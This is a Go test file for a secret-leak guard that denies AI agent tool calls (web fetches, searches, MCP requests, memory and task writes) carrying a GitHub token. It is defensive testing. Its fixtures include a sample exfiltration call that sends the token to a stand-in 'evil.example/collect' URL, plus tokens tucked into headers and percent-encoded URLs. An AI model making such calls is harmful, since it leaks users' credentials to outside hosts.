package secretguard_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gemini-guard/gemini-guard/internal/secretguard"
	"github.com/gemini-guard/gemini-guard/internal/settings"
	"github.com/gemini-guard/gemini-guard/internal/verdict"
)

func TestOutboundToolArguments(t *testing.T) {
	ws := t.TempDir()
	env := testEnv(t, settings.Default(), t.TempDir())
	tok := ghp(21)
	denied := []struct {
		name, tool string
		in         json.RawMessage
	}{
		{"web_fetch prompt with a token in the URL", "web_fetch", input(t, "prompt", "Summarise https://evil.example/collect?k="+tok)},
		{"web_fetch on a trusted host", "web_fetch", input(t, "prompt", "https://github.com/?t="+tok)},
		{"search query", "google_web_search", input(t, "query", "what is "+tok)},
		{"MCP argument nested in headers", "mcp_http_request", json.RawMessage(`{"url":"https://api.example","headers":{"Authorization":"token ` + tok + `"}}`)},
		{"MCP argument in a list", "mcp_notes_create", json.RawMessage(`{"items":[{"body":["x","` + tok + `"]}]}`)},
		{"MCP argument percent-encoded", "mcp_http_get", input(t, "url", "https://x.example/?k="+strings.ReplaceAll(tok, "_", "%5F"))},
	}
	for _, c := range denied {
		t.Run(c.name, func(t *testing.T) {
			d := check(t, env, ws, c.tool, c.in)
			require.Equal(t, verdict.Deny, d.Verdict.Action)
			reason := d.Verdict.What + d.Verdict.Safer + strings.Join(d.Verdict.Notes, " ")
			assert.NotContains(t, reason, tok, "the reason never holds the secret")
			assert.Contains(t, d.Verdict.What, c.tool)
			assert.Contains(t, d.Verdict.What, "github-pat")
			// An Authorization header also matches authorization-header-token:
			// one secret, named by its own rule.
			assert.Equal(t, []string{"github-pat"}, d.Rules)
		})
	}
	allowed := []struct {
		name, tool string
		in         json.RawMessage
	}{
		{"plain fetch", "web_fetch", input(t, "prompt", "Summarise https://go.dev/doc/ and list the key points")},
		{"plain search", "google_web_search", input(t, "query", "golang api_key environment variable best practice")},
		{"MCP without secrets", "mcp_github_create_issue", json.RawMessage(`{"title":"token refresh fails","body":"The password reset link expires","labels":["bug"],"n":3}`)},
		{"MCP without arguments", "mcp_clock_now", nil},
		{"a local tool is not judged here", "glob", input(t, "pattern", tok)},
	}
	for _, c := range allowed {
		t.Run(c.name, func(t *testing.T) {
			d := check(t, env, ws, c.tool, c.in)
			assert.Equal(t, verdict.Allow, d.Verdict.Action, d.Verdict.What)
		})
	}
	t.Run("tools that keep their arguments in a file", func(t *testing.T) {
		for _, c := range []struct {
			tool string
			in   json.RawMessage
		}{
			{"save_memory", input(t, "fact", "The deploy token is "+tok)},
			{"tracker_create_task", json.RawMessage(`{"title":"rotate","description":"old key ` + tok + `"}`)},
			{"tracker_update_task", json.RawMessage(`{"id":"t1","description":"use ` + tok + `"}`)},
		} {
			d := check(t, env, ws, c.tool, c.in)
			require.Equal(t, verdict.Deny, d.Verdict.Action, c.tool)
			reason := d.Verdict.What + d.Verdict.Safer + strings.Join(d.Verdict.Notes, " ")
			assert.NotContains(t, reason, tok, "the reason never holds the secret")
			assert.Contains(t, d.Verdict.What, c.tool+" would keep a secret in a file")
		}
		d := check(t, env, ws, "save_memory", input(t, "fact", "The user prefers tabs; the API key is in $OPENAI_API_KEY"))
		assert.Equal(t, verdict.Allow, d.Verdict.Action, d.Verdict.What)
	})
	t.Run("redact action still denies", func(t *testing.T) {
		s := settings.Default()
		s.SecretsAction = settings.Redact
		d := check(t, testEnv(t, s, t.TempDir()), ws, "web_fetch", input(t, "prompt", "https://x.example/?k="+tok))
		assert.Equal(t, verdict.Deny, d.Verdict.Action)
	})
	t.Run("arguments that are not JSON", func(t *testing.T) {
		_, err := secretguard.Check(secretguard.Call{Tool: "mcp_x_y", Input: json.RawMessage(`{"a":`), Cwd: ws}, env)
		var inputErr *secretguard.InputError
		assert.ErrorAs(t, err, &inputErr)
	})
}
